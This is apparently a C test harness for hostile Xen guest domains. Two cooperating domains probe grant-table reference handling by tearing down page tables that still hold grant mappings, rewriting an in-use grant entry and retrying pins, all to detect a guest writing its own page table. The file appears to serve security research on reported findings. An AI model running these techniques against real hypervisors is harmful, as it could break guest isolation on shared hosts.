/* Attack (issue 9 finding 2): tear down a page table with a grant mapping in it.
 * Two domains (the harness starts the granter, then the mapper):
 *   role=granter peer=<mapper domid>
 *     F = a fresh page, filled with a pattern and made read-only in its own
 *     tables (so that only the mapper's writable mapping holds a writable type),
 *     granted read-write to the peer ("result offer ref=<r>"). Once the peer has
 *     mapped it (GTF_writing), PIN_L1_TABLE of F must fail (-EINVAL): a frame
 *     mapped writable cannot become a page table. When the peer's mapping is gone
 *     (its unmap, crash or destruction; GTF_reading clear), F is unused: the pin
 *     succeeds (0) and is undone. `peer_wrote` says the peer's stores arrived.
 *   role=mapper peer=<granter domid> ref=<r> how=unpin|l2|baseptr|destroy
 *     T = an L1 of its own (a fresh read-only page), hooked into a free L2 slot;
 *     the grant is mapped writable into T and written through. Then T goes away
 *     with the grant PTE still in it:
 *       unpin:   T pinned, its L2 entry removed, then UNPIN_TABLE;
 *       l2:      T not pinned, its L2 entry removed;
 *       baseptr: T under a private L3/L2 in L4 slot 1; the kernel switches to a
 *                copy of its L4 without slot 1 (old L4 unpinned first);
 *       destroy: the domain powers off with the mapping in place;
 *       hold:    (granter with die=1) the granter rewrites every field of the
 *                in-use entry, frame 0xffffffff included, and dies; the mapping
 *                keeps working (Xen's active entry), the unmap succeeds, and the
 *                frame is freed only then (finding 3).
 *     Xen never removes a grant mapping implicitly: put_page_from_l1e on a grant
 *     PTE of a live domain is "Attempt to implicitly unmap a granted PTE" and
 *     the domain is crashed; the grant's references stay with the grant table
 *     and go when the dying domain's grant table is torn down (destroy: no
 *     crash, the grant table goes first). */
#include "hostile.h"
#include "gnttab.h"
#include "time.h"

#define PATTERN 0x5A5A0000C0DE0000UL
#define WAIT_NS 20000000000UL

static void granter(const char *cmd)
{
    domid_t peer = (domid_t)cmdline_u64(cmd, "peer", 0);
    long ref;
    u64 *f = grant_offer_l1_page(peer, PATTERN, &ref);
    unsigned long mfn = virt_to_mfn(f);
    result("peer_mapped", grant_wait_flags((grant_ref_t)ref, GTF_writing, 1, 1));
    if (cmdline_u64(cmd, "die", 0)) {
        /* Finding 3: rewrite every field of the in-use entry (frame 0xffffffff), then
         * die while the peer still maps F. Through a second mapping of our grant frame. */
        xen_pfn_t frames[1];
        struct gnttab_setup_table setup = { .dom = DOMID_SELF, .nr_frames = 1 };
        set_xen_guest_handle(setup.frame_list, frames);
        if (HYPERVISOR_grant_table_op(GNTTABOP_setup_table, &setup, 1) || setup.status)
            panic("setup_table");
        unsigned long va = alloc_va_hole();
        if (map_frame(va, frames[0], PTE_KERNEL_RW)) panic("map grant frame");
        volatile grant_entry_v1_t *e = (volatile grant_entry_v1_t *)va + ref;
        e->frame = 0xFFFFFFFFu;
        e->domid = 0x7FEF;
        e->flags = GTF_permit_access | GTF_readonly;
        result("rewrote_entry", e->frame == 0xFFFFFFFFu);
        printk("about to power off while the peer maps a rewritten grant\n");
        poweroff();
    }
    unsigned done = 0;
    long rc = mmuext1(MMUEXT_PIN_L1_TABLE, mfn, 0, &done);
    result_done("pin_while_mapped", rc, done);
    if (rc == 0) mmuext1(MMUEXT_UNPIN_TABLE, mfn, 0, NULL);
    /* Keep trying while the peer still maps F: after a double drop of the grant's
     * references (finding 2) the pin succeeds and F becomes an L1 that the peer
     * can write. */
    int escaped = 0;
    u64 deadline = monotonic_ns() + WAIT_NS;
    while ((gnttab_flags((grant_ref_t)ref) & GTF_writing) && monotonic_ns() < deadline) {
        if (mmuext1(MMUEXT_PIN_L1_TABLE, mfn, 0, NULL) == 0) {
            escaped = 1;
            mmuext1(MMUEXT_UNPIN_TABLE, mfn, 0, NULL);
            break;
        }
        sched_yield();
    }
    result("pinned_while_peer_maps", escaped);
    result("peer_unmapped", grant_wait_flags((grant_ref_t)ref, GTF_reading | GTF_writing, 0, 1));
    result("peer_wrote", f[7] == 0x600DF00EUL);
    done = 0;
    rc = mmuext1(MMUEXT_PIN_L1_TABLE, mfn, 0, &done);
    result_done("pin_after_unmap", rc, done);
    if (rc == 0) result("unpin_after_unmap", mmuext1(MMUEXT_UNPIN_TABLE, mfn, 0, NULL));
    result("end_access", gnttab_end_access((grant_ref_t)ref));
    poweroff();
}

static u64 *fresh_ro_page(void)
{
    u64 *p = alloc_page();
    return p;
}

static void ro(void *p)
{
    if (make_readonly(p)) panic("make_readonly");
}

static void mapper(const char *cmd)
{
    domid_t peer = (domid_t)cmdline_u64(cmd, "peer", 0);
    grant_ref_t ref = (grant_ref_t)cmdline_u64(cmd, "ref", 0);
    const char *how = cmdline_find(cmd, "how=");
    how = how ? how + 4 : "unpin";
    int baseptr = !strncmp(how, "baseptr", 7), pin = !strncmp(how, "unpin", 5) ||
        !strncmp(how, "destroy", 7) || !strncmp(how, "hold", 4), l2only = !strncmp(how, "l2", 2);
    if (gnttab_init()) panic("gnttab_init");
    u64 *t = fresh_ro_page();
    unsigned long tmfn = virt_to_mfn(t);
    unsigned long va;
    u64 hook_ma;
    u64 *l4n = NULL;
    if (!baseptr) {
        unsigned slot = free_l2_slot();
        hook_ma = entry_ma(kernel_l2_mfn(), slot);
        va = (VIRT_BASE & ~((1UL << 30) - 1)) + ((unsigned long)slot << 21);
        ro(t);
        if (pin) result("pin_t", mmuext1(MMUEXT_PIN_L1_TABLE, tmfn, 0, NULL));
        result("hook_t", mmu1(hook_ma, (tmfn << PAGE_SHIFT) | PTE_TABLE, NULL));
    } else {
        u64 *l2x = alloc_page(), *l3x = alloc_page();
        l4n = alloc_page();
        l2x[0] = (tmfn << PAGE_SHIFT) | PTE_TABLE;
        l3x[0] = (virt_to_mfn(l2x) << PAGE_SHIFT) | PTE_TABLE;
        unsigned long l4 = l4_mfn();
        for (unsigned i = 0; i < 512; i++)
            if (i != 1 && (i < 256 || i > 271)) l4n[i] = read_entry(l4, i);
        ro(t); ro(l2x); ro(l3x); ro(l4n);
        hook_ma = entry_ma(l4, 1);
        va = 1UL << 39;
        result("hook_t", mmu1(hook_ma, (virt_to_mfn(l3x) << PAGE_SHIFT) | PTE_TABLE, NULL));
    }
    unsigned long gva = va + 5 * PAGE_SIZE;
    grant_handle_t h = 0;
    result("map", gnttab_map(peer, ref, gva, 0, &h));
    volatile u64 *g = (volatile u64 *)gva;
    result("mapped_reads_pattern", g[3] == PATTERN + 6);
    g[7] = 0x600DF00EUL;
    /* mmu_update over the grant PTE is refused: only unmap_grant_ref removes it. */
    unsigned done = 0;
    long rc = mmu1(entry_ma(tmfn, 5), 0, &done);
    result_done("overwrite_grant_pte", rc, done);
    if (!strncmp(how, "hold", 4)) {
        /* The granter rewrites the entry and dies meanwhile (its GTF flags cannot be
         * watched any more): keep using the mapping for 3 s, then unmap it. */
        u64 until = monotonic_ns() + 3000000000UL;
        int ok = 1;
        while (monotonic_ns() < until) {
            ok &= g[3] == PATTERN + 6 && g[7] == 0x600DF00EUL;
            sched_yield();
        }
        result("hold_mapping_intact", ok);
        result("hold_unmap", gnttab_unmap(gva, h));
        poweroff();
    }
    if (!strncmp(how, "destroy", 7)) {
        printk("about to power off with a grant mapped in an L1\n");
        poweroff();
    }
    if (pin) {
        result("unhook_t", mmu1(hook_ma, 0, NULL));
        printk("about to unpin an L1 holding a grant mapping\n");
        rc = mmuext1(MMUEXT_UNPIN_TABLE, tmfn, 0, NULL);
    } else if (l2only) {
        printk("about to remove the L2 entry of an L1 holding a grant mapping\n");
        rc = mmu1(hook_ma, 0, NULL);
    } else {
        result("unpin_l4", mmuext1(MMUEXT_UNPIN_TABLE, l4_mfn(), 0, NULL));
        printk("about to switch away from the L4 holding a grant mapping\n");
        rc = mmuext1(MMUEXT_NEW_BASEPTR, virt_to_mfn(l4n), 0, NULL);
    }
    /* Xen crashes the domain before this line. If not, hold the mapping a while
     * (the granter tries to retype F meanwhile), then unmap it. */
    result("teardown_rc", rc);
    result("still_running", 1);
    u64 until = monotonic_ns() + 2000000000UL;
    while (monotonic_ns() < until) sched_yield();
    result("unmap", gnttab_unmap(gva, h));
    poweroff();
}

void app_main(void)
{
    hostile_traps_init();
    const char *cmd = cmdline();
    if (cmdline_find(cmd, "role=granter")) granter(cmd);
    else if (cmdline_find(cmd, "role=mapper")) mapper(cmd);
    panic("role=granter|mapper");
}
